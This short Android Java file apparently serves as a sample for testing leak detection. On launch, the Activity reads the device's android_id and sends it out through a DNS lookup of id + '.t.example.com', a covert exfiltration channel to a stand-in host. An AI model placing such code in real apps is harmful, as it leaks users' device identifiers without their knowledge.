package p;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import java.io.IOException;
import java.net.InetAddress;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String id = Settings.Secure.getString(getContentResolver(), "android_id");
        new Thread(new Runnable() {
            @Override
            public void run() {
                look(id);
            }
        }).start();
    }

    static void look(String id) {
        try {
            InetAddress.getByName(id + ".t.example.com");
        } catch (IOException error) {
            return;
        }
    }
}
